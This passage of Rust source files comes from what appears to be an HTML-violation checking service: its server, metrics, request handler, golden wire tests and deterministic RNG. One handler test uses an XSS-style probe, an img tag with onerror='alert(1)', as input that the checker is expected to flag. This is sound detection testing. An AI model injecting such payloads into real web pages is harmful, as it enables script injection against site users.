        std::thread::available_parallelism().map(usize::from).unwrap_or(4)
    } else {
        opts.threads
    };
    let shared = Arc::new(Shared { store, metrics: Metrics::new(), max_body: opts.max_body });
    let queue: Arc<BoundedQueue<TcpStream>> = Arc::new(BoundedQueue::new(opts.queue_depth));
    let shutting_down = Arc::new(AtomicBool::new(false));

    let workers: Vec<JoinHandle<()>> = (0..threads)
        .map(|i| {
            let shared = Arc::clone(&shared);
            let queue = Arc::clone(&queue);
            let shutting_down = Arc::clone(&shutting_down);
            let opts = opts.clone();
            std::thread::Builder::new()
                .name(format!("hv-serve-worker-{i}"))
                .spawn(move || worker_loop(shared, queue, shutting_down, opts))
                .expect("spawning worker thread")
        })
        .collect();

    let acceptor = {
        let shared = Arc::clone(&shared);
        let queue = Arc::clone(&queue);
        let shutting_down = Arc::clone(&shutting_down);
        std::thread::Builder::new()
            .name("hv-serve-acceptor".to_owned())
            .spawn(move || acceptor_loop(listener, shared, queue, shutting_down))
            .expect("spawning acceptor thread")
    };

    Ok(Server { addr, shared, shutting_down, acceptor: Some(acceptor), workers })
}

/// Accept loop: admit into the bounded queue or shed with 503.
fn acceptor_loop(
    listener: TcpListener,
    shared: Arc<Shared>,
    queue: Arc<BoundedQueue<TcpStream>>,
    shutting_down: Arc<AtomicBool>,
) {
    loop {
        let stream = match listener.accept() {
            Ok((stream, _)) => stream,
            Err(_) => {
                if shutting_down.load(Ordering::SeqCst) {
                    break;
                }
                continue;
            }
        };
        if shutting_down.load(Ordering::SeqCst) {
            // The wake-up self-connection (or a straggler) — close and go.
            drop(stream);
            break;
        }
        shared.metrics.accepted();
        match queue.try_push(stream) {
            Ok(()) => {}
            Err(PushError::Full(mut stream)) => {
                // Load shedding: answer 503 + Retry-After on the spot and
                // close, so the client learns to back off instead of
                // queueing behind a saturated pool.
                shared.metrics.shed();
                http::write_shed_response(&mut stream);
            }
            Err(PushError::Closed(_)) => break,
        }
    }
    // Stop the workers: no more connections will arrive.
    queue.close();
}

/// Worker loop: pull connections, serve keep-alive request cycles.
fn worker_loop(
    shared: Arc<Shared>,
    queue: Arc<BoundedQueue<TcpStream>>,
    shutting_down: Arc<AtomicBool>,
    opts: ServeOptions,
) {
    let mut handler = Handler::new(Arc::clone(&shared));
    while let Some(mut stream) = queue.pop() {
        serve_connection(&mut stream, &mut handler, &shared, &shutting_down, &opts);
    }
}

/// One connection: read → handle → write, looping while keep-alive holds.
fn serve_connection(
    stream: &mut TcpStream,
    handler: &mut Handler,
    shared: &Shared,
    shutting_down: &AtomicBool,
    opts: &ServeOptions,
) {
    let _ = stream.set_read_timeout(Some(opts.read_timeout));
    let _ = stream.set_write_timeout(Some(opts.write_timeout));
    let _ = stream.set_nodelay(true);
    // Bytes read past one request (pipelining) seed the next read.
    let mut carry = Vec::new();
    loop {
        let req = match http::read_request(stream, opts.max_body, &mut carry) {
            Ok(Some(req)) => req,
            Ok(None) => return, // clean close or idle keep-alive timeout
            Err(e) => {
                if matches!(e, http::RequestError::Timeout) {
                    shared.metrics.timeout();
                }
                if let Some(resp) = e.to_response() {
                    // The request was not fully read; half-close and drain
                    // so the peer gets the error response, not a RST.
                    if resp.write_to(stream, false).is_ok() {
                        http::drain_before_close(stream);
                    }
                }
                return;
            }
        };
        let t0 = std::time::Instant::now();
        let handled = handler.handle(&req);
        let mut response = handled.response;
        // During drain, finish this request but refuse to linger.
        if shutting_down.load(Ordering::SeqCst) {
            response = response.close();
        }
        let keep_alive = match response.write_to(stream, req.keep_alive) {
            Ok(keep_alive) => keep_alive,
            Err(_) => {
                shared.metrics.timeout();
                false
            }
        };
        shared.metrics.served(handled.route, response.status, t0.elapsed(), handled.panicked);
        if !keep_alive {
            return;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn options_builder_chains() {
        let o = ServeOptions::new()
            .addr("127.0.0.1:0")
            .threads(3)
            .max_body(1024)
            .queue_depth(2)
            .read_timeout(Duration::from_millis(100))
            .write_timeout(Duration::from_millis(200))
            .store_path("/tmp/s.json");
        assert_eq!(o.addr, "127.0.0.1:0");
        assert_eq!(o.threads, 3);
        assert_eq!(o.max_body, 1024);
        assert_eq!(o.queue_depth, 2);
        assert_eq!(o.read_timeout, Duration::from_millis(100));
        assert_eq!(o.store_path.as_deref(), Some(std::path::Path::new("/tmp/s.json")));
    }

    #[test]
    fn bad_addr_fails_fast() {
        // map() shuts down a server that unexpectedly started, leaving a
        // Debug-printable Result for unwrap_err.
        let err = serve(ServeOptions::new().addr("not-an-addr")).map(Server::shutdown).unwrap_err();
        assert!(matches!(err, HvError::Server { .. }), "{err}");
    }

    #[test]
    fn missing_store_fails_fast() {
        let err =
            serve(ServeOptions::new().addr("127.0.0.1:0").store_path("/definitely/not/here.json"))
                .map(Server::shutdown)
                .unwrap_err();
        assert!(matches!(err, HvError::Store { .. }), "{err}");
    }
}
