//! Versioned wire types.
//!
//! Everything the service puts on the wire lives here, one module per
//! major version. The DTOs are deliberately *decoupled* from the library
//! types they mirror: `hv_core::Finding` can grow or rename fields freely,
//! and the explicit `From` impls in [`v1`] are the single place where the
//! mapping is maintained. Golden-fixture tests (`tests/wire_v1.rs`) pin
//! the serialized shape, so an accidental wire break fails CI instead of a
//! client.

pub mod v1;
