//! Service observability, `GET /metricsz`.
//!
//! Counters follow the load-shedding lifecycle — *accepted* connections
//! either get *served* responses or are *shed* at the queue — plus the two
//! abnormal endings (*timeouts*, *panics*). Per-endpoint latency uses the
//! same mergeable log₂ [`DurationHistogram`] the scan engine's
//! [`CheckStats`](hv_core::CheckStats) uses, so one fleet-side toolchain
//! reads both.
//!
//! A single mutex guards the whole table. Requests hold it for the
//! nanoseconds of two integer bumps and a bucket increment — at this
//! service's request sizes (an HTML parse per request) the lock is never
//! the bottleneck, and a mutex keeps the snapshot trivially consistent.

use hv_core::DurationHistogram;
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::sync::Mutex;
use std::time::Duration;

/// One endpoint's counters. Merge-by-addition, like [`hv_core::CheckStats`].
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct EndpointStats {
    /// Responses written, any status.
    pub served: u64,
    /// Responses with a 4xx status.
    pub client_errors: u64,
    /// Responses with a 5xx status (includes recovered panics).
    pub server_errors: u64,
    /// Handler panics recovered by the worker's panic boundary.
    pub panics: u64,
    /// Wall-time from parsed request to written response, log₂-bucketed
    /// nanoseconds.
    pub latency: DurationHistogram,
}

/// The full `/metricsz` document.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct MetricsSnapshot {
    /// Connections the acceptor accepted.
    pub accepted: u64,
    /// Connections refused with 503 because the worker queue was full.
    pub shed: u64,
    /// Requests that died mid-read (408) or mid-write.
    pub timeouts: u64,
    /// Total responses written across endpoints.
    pub served: u64,
    /// Total recovered panics across endpoints.
    pub panics: u64,
    /// Per-route stats, keyed by route pattern (`POST /v1/check`, …).
    pub endpoints: BTreeMap<String, EndpointStats>,
}

/// Shared, thread-safe metrics registry.
#[derive(Debug, Default)]
pub struct Metrics {
    inner: Mutex<MetricsSnapshot>,
}

impl Metrics {
    pub fn new() -> Self {
        Metrics::default()
    }

    pub fn accepted(&self) {
        self.inner.lock().unwrap().accepted += 1;
    }

    pub fn shed(&self) {
        self.inner.lock().unwrap().shed += 1;
    }

    pub fn timeout(&self) {
        self.inner.lock().unwrap().timeouts += 1;
    }

    /// Account one written response for `route` (a route *pattern*, so
    /// `/v1/explain/FB2` and `/v1/explain/DM3` share one row).
    pub fn served(&self, route: &str, status: u16, latency: Duration, panicked: bool) {
        let mut m = self.inner.lock().unwrap();
        m.served += 1;
        if panicked {
            m.panics += 1;
        }
        let e = m.endpoints.entry(route.to_owned()).or_default();
        e.served += 1;
        match status {
            400..=499 => e.client_errors += 1,
            500..=599 => e.server_errors += 1,
            _ => {}
        }
        if panicked {
            e.panics += 1;
        }
        e.latency.record(latency.as_nanos() as u64);
    }

    /// A consistent copy for `/metricsz`.
    pub fn snapshot(&self) -> MetricsSnapshot {
        self.inner.lock().unwrap().clone()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lifecycle_counters() {
        let m = Metrics::new();
        m.accepted();
        m.accepted();
        m.shed();
        m.served("POST /v1/check", 200, Duration::from_micros(30), false);
        m.served("POST /v1/check", 400, Duration::from_micros(5), false);
        m.served("GET /healthz", 500, Duration::from_micros(1), true);
        let s = m.snapshot();
        assert_eq!(s.accepted, 2);
        assert_eq!(s.shed, 1);
        assert_eq!(s.served, 3);
        assert_eq!(s.panics, 1);
        let check = &s.endpoints["POST /v1/check"];
        assert_eq!(check.served, 2);
        assert_eq!(check.client_errors, 1);
        assert_eq!(check.server_errors, 0);
        assert_eq!(check.latency.count, 2);
        assert!(check.latency.sum_nanos >= 35_000);
        let health = &s.endpoints["GET /healthz"];
        assert_eq!(health.panics, 1);
        assert_eq!(health.server_errors, 1);
    }

    #[test]
    fn snapshot_serializes() {
        let m = Metrics::new();
        m.served("GET /healthz", 200, Duration::from_nanos(100), false);
        let json = serde_json::to_string(&m.snapshot()).unwrap();
        assert!(json.contains("\"endpoints\""));
        assert!(json.contains("GET /healthz"));
        let back: MetricsSnapshot = serde_json::from_str(&json).unwrap();
        assert_eq!(back, m.snapshot());
    }
}
