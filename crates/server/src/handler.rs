//! Request routing and endpoint logic.
//!
//! One [`Handler`] lives on each worker thread and owns that worker's
//! [`Battery`] — constructed once at startup, reused for every request, so
//! the hot path allocates nothing per request beyond the response body.
//! Everything shared and read-only (the loaded [`IndexedStore`], the
//! metrics registry, limits) sits behind one [`Shared`] Arc. The
//! aggregate index is built **once** at startup; report endpoints render
//! from it with no per-request re-aggregation.
//!
//! Every handler runs inside a `catch_unwind` boundary: a panic on a
//! hostile document becomes a `500 internal_panic` response and a fresh
//! battery, never a dead worker — the page-level quarantine philosophy of
//! the scan engine (§7), applied to a network service.

use crate::api::v1;
use crate::http::{Request, Response};
use crate::metrics::Metrics;
use hv_core::{autofix, Battery, CheckContext, HvError, InputError, ViolationKind};
use hv_pipeline::IndexedStore;
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::sync::Arc;

/// State shared by every worker.
pub struct Shared {
    /// Result store loaded and indexed at startup (`--store`); report
    /// endpoints 409 without one.
    pub store: Option<IndexedStore>,
    pub metrics: Metrics,
    /// Byte budget for request bodies — the §7 `OversizedBody` guard,
    /// enforced both pre-read (Content-Length) and pre-parse.
    pub max_body: usize,
}

/// The outcome of dispatching one request.
pub struct Handled {
    pub response: Response,
    /// Route pattern for metrics (`POST /v1/check`, not the raw path).
    pub route: &'static str,
    /// Whether the handler panicked (already mapped to a 500).
    pub panicked: bool,
}

/// Per-worker handler: shared state + a worker-owned battery.
pub struct Handler {
    shared: Arc<Shared>,
    battery: Battery,
}

impl Handler {
    pub fn new(shared: Arc<Shared>) -> Self {
        Handler { shared, battery: Battery::full() }
    }

    /// Route and execute one request inside the panic boundary.
    pub fn handle(&mut self, req: &Request) -> Handled {
        let (route, known) = route_of(req);
        if !known {
            let response = if route_exists(&req.path) {
                Response::error(
                    405,
                    "method_not_allowed",
                    format!("{} not allowed here", req.method),
                )
            } else {
                Response::error(404, "not_found", format!("no such endpoint: {}", req.path))
            };
            return Handled { response, route, panicked: false };
        }
        let result = catch_unwind(AssertUnwindSafe(|| self.dispatch(route, req)));
        match result {
            Ok(response) => Handled { response, route, panicked: false },
            Err(_) => {
                // The battery's scratch state is suspect after an unwind;
                // rebuild it. Costs one construction, keeps the worker.
                self.battery = Battery::full();
                let response = Response::error(
                    500,
                    "internal_panic",
                    "the handler panicked on this input; the worker recovered",
                );
                Handled { response, route, panicked: true }
            }
        }
    }

    fn dispatch(&mut self, route: &'static str, req: &Request) -> Response {
        match route {
            "GET /healthz" => Response::text(200, "ok\n"),
            "GET /metricsz" => Response::json(200, &self.shared.metrics.snapshot()),
            "POST /v1/check" => self.check(req),
            "POST /v1/fix" => self.fix(req),
            "GET /v1/explain/{kind}" => explain(&req.path),
            "GET /v1/report/{experiment}" => self.report(&req.path),
            "GET /v1/store/summary" => self.store_summary(),
            _ => unreachable!("route_of returned an unhandled route"),
        }
    }

    /// `POST /v1/check`: JSON `{"html": …}` or a raw `text/html` body.
    fn check(&mut self, req: &Request) -> Response {
        let html = match self.request_html(req) {
            Ok(html) => html,
            Err(resp) => return resp,
        };
        let cx = CheckContext::new(&html);
        let report = self.battery.run_ref(&cx);
        Response::json(200, &v1::CheckResponse::from(report))
    }

    /// `POST /v1/fix`: same request shape, returns the §4.4 repair.
    fn fix(&mut self, req: &Request) -> Response {
        let html = match self.request_html(req) {
            Ok(html) => html,
            Err(resp) => return resp,
        };
        let outcome = autofix::auto_fix(&html);
        Response::json(200, &v1::FixResponse::from(&outcome))
    }

    /// Extract the document from either request encoding, applying the
    /// byte budget and the §4.1 UTF-8 filter uniformly.
    fn request_html(&self, req: &Request) -> Result<String, Response> {
        if req.body.len() > self.shared.max_body {
            return Err(error_response(&HvError::from(InputError::TooLarge {
                len: req.body.len(),
                budget: self.shared.max_body,
            })));
        }
        if req.content_type().as_deref() == Some("text/html") {
            return match std::str::from_utf8(&req.body) {
                Ok(text) => Ok(text.to_owned()),
                Err(e) => Err(error_response(&HvError::from(InputError::NotUtf8 {
                    valid_up_to: e.valid_up_to(),
                }))),
            };
        }
        let parsed: v1::CheckRequest = serde_json::from_slice(&req.body)
            .map_err(|e| error_response(&HvError::parse("CheckRequest", e.to_string())))?;
        if parsed.html.len() > self.shared.max_body {
            return Err(error_response(&HvError::from(InputError::TooLarge {
                len: parsed.html.len(),
                budget: self.shared.max_body,
            })));
        }
        Ok(parsed.html)
    }

    /// `GET /v1/explain/{kind}` — see free fn [`explain`].
    /// `GET /v1/report/{experiment}`: render one experiment as text.
    fn report(&self, path: &str) -> Response {
        let name = path.trim_start_matches("/v1/report/");
        let Some(store) = &self.shared.store else {
            return Response::error(
                409,
                "store_not_loaded",
                "this server was started without --store; report endpoints are unavailable",
            );
        };
        match hv_report::render(name, store) {
            Some(text) => Response::text(200, text),
            None => Response::error(
                404,
                "not_found",
                format!(
                    "unknown experiment: {name} (known: {})",
                    hv_report::EXPERIMENTS.join(", ")
                ),
            ),
        }
    }

    /// `GET /v1/store/summary`: provenance of the loaded store.
    fn store_summary(&self) -> Response {
        match &self.shared.store {
            Some(store) => Response::json(200, &v1::StoreSummary::from(store)),
            None => Response::error(
                409,
                "store_not_loaded",
                "this server was started without --store; report endpoints are unavailable",
            ),
        }
    }
}

/// `GET /v1/explain/{kind}`: one taxonomy entry, case-insensitive id.
fn explain(path: &str) -> Response {
    let id = path.trim_start_matches("/v1/explain/");
    match ViolationKind::from_id(&id.to_ascii_uppercase()) {
        Some(kind) => Response::json(200, &v1::ExplainResponse::from(kind)),
        None => Response::error(
            404,
            "not_found",
            format!("unknown violation: {id} (try FB2, DM3, HF5.1, … or `hva explain all`)"),
        ),
    }
}

/// Map a request to its route pattern. The bool says whether the
/// (method, path) pair is an actual endpoint; `false` yields 404/405.
fn route_of(req: &Request) -> (&'static str, bool) {
    match (req.method.as_str(), req.path.as_str()) {
        ("GET", "/healthz") => ("GET /healthz", true),
        ("GET", "/metricsz") => ("GET /metricsz", true),
        ("POST", "/v1/check") => ("POST /v1/check", true),
        ("POST", "/v1/fix") => ("POST /v1/fix", true),
        ("GET", "/v1/store/summary") => ("GET /v1/store/summary", true),
        ("GET", p) if p.starts_with("/v1/explain/") => ("GET /v1/explain/{kind}", true),
        ("GET", p) if p.starts_with("/v1/report/") => ("GET /v1/report/{experiment}", true),
        _ => ("other", false),
    }
}

/// Whether the path names a known endpoint under *some* method — the
/// 405-vs-404 distinction.
fn route_exists(path: &str) -> bool {
    matches!(path, "/healthz" | "/metricsz" | "/v1/check" | "/v1/fix" | "/v1/store/summary")
        || path.starts_with("/v1/explain/")
        || path.starts_with("/v1/report/")
}

/// The one place an [`HvError`] becomes an HTTP response. Startup errors
/// never get here (they abort `serve`); everything else maps onto the v1
/// error codes.
pub fn error_response(e: &HvError) -> Response {
    let (status, code) = match e {
        HvError::Parse { .. } => (400, "bad_request"),
        HvError::Input(InputError::TooLarge { .. }) => (413, "body_too_large"),
        HvError::Input(InputError::NotUtf8 { .. }) => (400, "body_not_utf8"),
        HvError::Store { .. } => (500, "store_error"),
        HvError::StoreCorrupt { .. } => (500, "store_error"),
        HvError::Io { .. } => (500, "io_error"),
        HvError::Server { .. } => (500, "server_error"),
        // `HvError` is #[non_exhaustive]: future variants degrade to 500
        // instead of breaking the build.
        _ => (500, "server_error"),
    };
    Response::error(status, code, e.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn request(method: &str, path: &str, body: &[u8], content_type: Option<&str>) -> Request {
        let mut headers = Vec::new();
        if let Some(ct) = content_type {
            headers.push(("content-type".to_owned(), ct.to_owned()));
        }
        Request {
            method: method.to_owned(),
            path: path.to_owned(),
            headers,
            body: body.to_vec(),
            keep_alive: true,
        }
    }

    fn handler(store: Option<hv_pipeline::ResultStore>) -> Handler {
        let store = store.map(IndexedStore::new);
        Handler::new(Arc::new(Shared { store, metrics: Metrics::new(), max_body: 1 << 20 }))
    }

    fn body_str(resp: &Response) -> String {
        String::from_utf8(resp.body.clone()).unwrap()
    }

    #[test]
    fn check_json_and_raw_html_agree() {
        let mut h = handler(None);
        let doc = r#"<img src="x.png"onerror="alert(1)">"#;
        let json_req = request(
            "POST",
            "/v1/check",
            serde_json::to_string(&v1::CheckRequest { html: doc.into() }).unwrap().as_bytes(),
            Some("application/json"),
        );
        let raw_req = request("POST", "/v1/check", doc.as_bytes(), Some("text/html"));
        let a = h.handle(&json_req);
        let b = h.handle(&raw_req);
        assert_eq!(a.response.status, 200);
        assert_eq!(body_str(&a.response), body_str(&b.response));
        let parsed: v1::CheckResponse = serde_json::from_str(&body_str(&a.response)).unwrap();
        assert!(parsed.findings.iter().any(|f| f.kind == "FB2"));
    }

    #[test]
    fn malformed_json_is_bad_request() {
        let mut h = handler(None);
        let r = h.handle(&request("POST", "/v1/check", b"{not json", Some("application/json")));
        assert_eq!(r.response.status, 400);
        let e: v1::ErrorBody = serde_json::from_str(&body_str(&r.response)).unwrap();
        assert_eq!(e.code, "bad_request");
    }

    #[test]
    fn non_utf8_raw_body_is_rejected() {
        let mut h = handler(None);
        let r = h.handle(&request("POST", "/v1/check", &[0xff, 0xfe, 0x80], Some("text/html")));
        assert_eq!(r.response.status, 400);
        let e: v1::ErrorBody = serde_json::from_str(&body_str(&r.response)).unwrap();
        assert_eq!(e.code, "body_not_utf8");
    }

    #[test]
    fn fix_round_trips() {
        let mut h = handler(None);
        let doc = r#"<img src=a src=b>"#;
        let r = h.handle(&request("POST", "/v1/fix", doc.as_bytes(), Some("text/html")));
        assert_eq!(r.response.status, 200);
        let fix: v1::FixResponse = serde_json::from_str(&body_str(&r.response)).unwrap();
        assert!(fix.before.contains(&"DM3".to_owned()));
        assert!(fix.eliminated.contains(&"DM3".to_owned()));
    }

    #[test]
    fn explain_known_and_unknown() {
        let mut h = handler(None);
        let ok = h.handle(&request("GET", "/v1/explain/fb2", b"", None));
        assert_eq!(ok.response.status, 200);
        let dto: v1::ExplainResponse = serde_json::from_str(&body_str(&ok.response)).unwrap();
        assert_eq!(dto.kind, "FB2");
        let bad = h.handle(&request("GET", "/v1/explain/XX9", b"", None));
        assert_eq!(bad.response.status, 404);
    }

    #[test]
    fn report_without_store_conflicts() {
        let mut h = handler(None);
        let r = h.handle(&request("GET", "/v1/report/table1", b"", None));
        assert_eq!(r.response.status, 409);
        let e: v1::ErrorBody = serde_json::from_str(&body_str(&r.response)).unwrap();
        assert_eq!(e.code, "store_not_loaded");
        let s = h.handle(&request("GET", "/v1/store/summary", b"", None));
        assert_eq!(s.response.status, 409);
    }

    #[test]
    fn report_with_store_renders() {
        let store = hv_pipeline::ResultStore::new(7, 0.01, 100);
        let mut h = handler(Some(store));
        let r = h.handle(&request("GET", "/v1/report/table1", b"", None));
        assert_eq!(r.response.status, 200);
        assert!(body_str(&r.response).contains("Table 1"));
        let unknown = h.handle(&request("GET", "/v1/report/fig99", b"", None));
        assert_eq!(unknown.response.status, 404);
        let s = h.handle(&request("GET", "/v1/store/summary", b"", None));
        let dto: v1::StoreSummary = serde_json::from_str(&body_str(&s.response)).unwrap();
        assert_eq!(dto.seed, 7);
        assert!(dto.experiments.contains(&"fig8".to_owned()));
    }

    #[test]
    fn unknown_path_404_wrong_method_405() {
        let mut h = handler(None);
        assert_eq!(h.handle(&request("GET", "/nope", b"", None)).response.status, 404);
        assert_eq!(h.handle(&request("DELETE", "/v1/check", b"", None)).response.status, 405);
        assert_eq!(h.handle(&request("POST", "/healthz", b"", None)).response.status, 405);
    }

    #[test]
    fn oversized_json_html_is_413() {
        let mut h =
            Handler::new(Arc::new(Shared { store: None, metrics: Metrics::new(), max_body: 64 }));
        let big = "x".repeat(100);
        let r = h.handle(&request("POST", "/v1/check", big.as_bytes(), Some("text/html")));
        assert_eq!(r.response.status, 413);
        let e: v1::ErrorBody = serde_json::from_str(&body_str(&r.response)).unwrap();
        assert_eq!(e.code, "body_too_large");
    }

    #[test]
    fn hv_error_mapping_is_total() {
        let cases: Vec<(HvError, u16)> = vec![
            (HvError::parse("x", "y"), 400),
            (HvError::from(InputError::TooLarge { len: 2, budget: 1 }), 413),
            (HvError::from(InputError::NotUtf8 { valid_up_to: 0 }), 400),
            (HvError::store(std::path::Path::new("/s"), "z"), 500),
            (HvError::store_corrupt(std::path::Path::new("/s"), Some(1), 64, "bad crc"), 500),
            (HvError::io("ctx", std::io::Error::other("e")), 500),
            (HvError::server("boom"), 500),
        ];
        for (e, status) in cases {
            assert_eq!(error_response(&e).status, status, "{e}");
        }
    }
}
