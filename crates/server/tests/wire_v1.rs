//! Golden fixtures for the `/v1` wire contract.
//!
//! These tests pin the exact serialized JSON of every v1 DTO. If a
//! refactor of the library types (or of the DTOs themselves) changes the
//! wire shape, a fixture here fails — that is the moment to either revert
//! the break or ship `/v2`. The vendored serde emits object keys in
//! alphabetical order, so renames *and* additions show up as diffs here.

use hv_server::api::v1::*;

#[test]
fn check_request_golden() {
    let req = CheckRequest { html: "<p>x</p>".into() };
    assert_eq!(serde_json::to_string(&req).unwrap(), r#"{"html":"<p>x</p>"}"#);
    // And the reverse direction accepts exactly this shape.
    let back: CheckRequest = serde_json::from_str(r#"{"html":"<p>x</p>"}"#).unwrap();
    assert_eq!(back, req);
}

#[test]
fn check_response_golden() {
    let mut battery = hv_core::Battery::full();
    let report = battery.run_str(
        r#"<!DOCTYPE html><html><head><title>t</title></head><body><img src=a src=b></body></html>"#,
    );
    let dto = CheckResponse::from(&report);
    let json = serde_json::to_string(&dto).unwrap();
    assert_eq!(
        json,
        "{\"clean\":false,\"findings\":[{\"category\":\"parsing_error\",\"evidence\":\"duplicate attribute near \u{201c}src=b></body></html>\u{201d}\",\"fixability\":\"automatic\",\"group\":\"DM\",\"kind\":\"DM3\",\"offset\":67}],\"mitigations\":{\"newline_and_lt_in_url\":false,\"newline_in_url\":false,\"script_in_attribute\":false,\"script_in_nonced_script\":false}}"
    );
    let back: CheckResponse = serde_json::from_str(&json).unwrap();
    assert_eq!(back, dto);
}

#[test]
fn clean_check_response_golden() {
    let mut battery = hv_core::Battery::full();
    let report = battery.run_str(
        "<!DOCTYPE html><html><head><title>t</title></head><body><p>fine</p></body></html>",
    );
    let dto = CheckResponse::from(&report);
    assert_eq!(
        serde_json::to_string(&dto).unwrap(),
        r#"{"clean":true,"findings":[],"mitigations":{"newline_and_lt_in_url":false,"newline_in_url":false,"script_in_attribute":false,"script_in_nonced_script":false}}"#
    );
}

#[test]
fn error_body_golden() {
    let e = ErrorBody::new("body_too_large", "declared body of 9 bytes exceeds the 1-byte limit");
    assert_eq!(
        serde_json::to_string(&e).unwrap(),
        r#"{"code":"body_too_large","message":"declared body of 9 bytes exceeds the 1-byte limit"}"#
    );
}

#[test]
fn explain_response_golden() {
    let dto = ExplainResponse::from(hv_core::ViolationKind::DM3);
    let json = serde_json::to_string(&dto).unwrap();
    // Pin the skeleton (field names + the enum-like strings), not the
    // prose: explanation text may be refined without a wire break.
    assert!(json.contains(r#""kind":"DM3""#), "{json}");
    assert!(json.contains(r#""group":"Data Manipulation""#), "{json}");
    assert!(json.contains(r#""group_code":"DM""#), "{json}");
    assert!(json.contains(r#""category":"parsing_error""#), "{json}");
    assert!(json.contains(r#""fixability":"automatic""#), "{json}");
    for field in ["behaviour", "attack", "fix"] {
        assert!(json.contains(&format!("\"{field}\":\"")), "missing {field}: {json}");
    }
    let back: ExplainResponse = serde_json::from_str(&json).unwrap();
    assert_eq!(back, dto);
}

#[test]
fn fix_response_golden() {
    let outcome = hv_core::autofix::auto_fix("<img src=a src=b>");
    let dto = FixResponse::from(&outcome);
    let json = serde_json::to_string(&dto).unwrap();
    assert_eq!(
        json,
        r#"{"after":[],"before":["DM3","HF1"],"eliminated":["DM3","HF1"],"fixed_html":"<html><head></head><body><img src=\"a\"></body></html>"}"#
    );
}

#[test]
fn store_summary_golden() {
    // An empty in-memory store has no format, segments, or dropped list,
    // so the new optional fields are skipped and the pre-v1 wire shape is
    // preserved byte for byte.
    let store =
        hv_pipeline::IndexedStore::new(hv_pipeline::ResultStore::new(0x48_56_31, 0.05, 1234));
    let dto = StoreSummary::from(&store);
    let json = serde_json::to_string(&dto).unwrap();
    assert_eq!(
        json,
        r#"{"experiments":["table1","table2","fig8","fig9","fig10","fig16","fig17","fig18","fig19","fig20","fig21","stats","autofix","mitigations","rollout","churn","aux","all"],"has_metrics":false,"quarantined":0,"records":0,"scale":0.05,"seed":4740657,"universe":1234}"#
    );
    // And the old shape still deserializes: the added fields default.
    let back: StoreSummary = serde_json::from_str(&json).unwrap();
    assert_eq!(back, dto);
}

#[test]
fn store_summary_segments_golden() {
    let mut store = hv_pipeline::ResultStore::new(1, 0.05, 10);
    store.records.push(hv_pipeline::DomainYearRecord {
        domain_id: 3,
        domain_name: "d3.com".into(),
        rank: 3,
        snapshot: hv_corpus::Snapshot(0),
        pages_found: 5,
        pages_analyzed: 4,
        kinds: [hv_core::ViolationKind::DM3].into_iter().collect(),
        page_counts: [(hv_core::ViolationKind::DM3, 2)].into_iter().collect(),
        mitigations: Default::default(),
        kinds_after_autofix: Default::default(),
        uses_math: false,
        pages_faulted: 0,
        pages_degraded: 0,
        pages_quarantined: 1,
    });
    let dto = StoreSummary::from(&hv_pipeline::IndexedStore::new(store));
    let json = serde_json::to_string(&dto).unwrap();
    assert!(
        json.contains(
            r#""segments":[{"domains_analyzed":1,"domains_violating":1,"pages_analyzed":4,"pages_found":5,"pages_quarantined":1,"records":1,"snapshot":"CC-MAIN-2015-14"}]"#
        ),
        "{json}"
    );
}

#[test]
fn unknown_fields_are_ignored_on_requests() {
    // Compatibility promise: clients may see new fields from newer
    // servers, and servers must tolerate extra fields from newer clients.
    let req: CheckRequest =
        serde_json::from_str(r#"{"html":"<p>x</p>","future_option":true}"#).unwrap();
    assert_eq!(req.html, "<p>x</p>");
}

#[test]
fn missing_required_field_is_an_error() {
    assert!(serde_json::from_str::<CheckRequest>(r#"{"htlm":"typo"}"#).is_err());
}
