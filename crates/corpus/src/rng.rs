//! Deterministic keyed randomness.
//!
//! Every stochastic decision in the corpus is a pure function of
//! `(seed, key parts)` — **no global RNG state** — so the corpus is
//! identical at any scale, any thread count, and any generation order. This
//! is what makes `hva repro` reproducible in the sense the paper argues for
//! when it picks Tranco and Common Crawl (§3.3 "this approach makes it
//! reproducible and comparable for future research").

/// SplitMix64 step.
#[inline]
fn splitmix64(mut z: u64) -> u64 {
    z = z.wrapping_add(0x9E37_79B9_7F4A_7C15);
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

/// Hash a seed plus key parts to a u64.
pub fn hash(seed: u64, parts: &[u64]) -> u64 {
    let mut h = splitmix64(seed ^ 0x243F_6A88_85A3_08D3);
    for &p in parts {
        h = splitmix64(h ^ p);
    }
    h
}

/// Uniform f64 in [0, 1).
pub fn unit(seed: u64, parts: &[u64]) -> f64 {
    (hash(seed, parts) >> 11) as f64 / (1u64 << 53) as f64
}

/// Bernoulli draw with probability `p`.
pub fn chance(seed: u64, parts: &[u64], p: f64) -> bool {
    unit(seed, parts) < p
}

/// Uniform integer in `[0, n)` (n must be > 0).
pub fn below(seed: u64, parts: &[u64], n: usize) -> usize {
    debug_assert!(n > 0);
    (hash(seed, parts) % n as u64) as usize
}

/// Uniform integer in `[lo, hi]`.
pub fn range(seed: u64, parts: &[u64], lo: usize, hi: usize) -> usize {
    debug_assert!(hi >= lo);
    lo + below(seed, parts, hi - lo + 1)
}

/// A tiny stateful generator for sequences (seeded from the keyed hash);
/// used where a loop needs many draws without inventing key suffixes.
pub struct KeyedRng(u64);

impl KeyedRng {
    pub fn new(seed: u64, parts: &[u64]) -> Self {
        KeyedRng(hash(seed, parts))
    }

    pub fn next_u64(&mut self) -> u64 {
        self.0 = splitmix64(self.0);
        self.0
    }

    pub fn unit(&mut self) -> f64 {
        (self.next_u64() >> 11) as f64 / (1u64 << 53) as f64
    }

    pub fn below(&mut self, n: usize) -> usize {
        debug_assert!(n > 0);
        (self.next_u64() % n as u64) as usize
    }

    pub fn range(&mut self, lo: usize, hi: usize) -> usize {
        lo + self.below(hi - lo + 1)
    }

    pub fn chance(&mut self, p: f64) -> bool {
        self.unit() < p
    }

    /// Pick one element of a slice.
    pub fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len())]
    }
}

/// Stable key part for a string (FNV-1a).
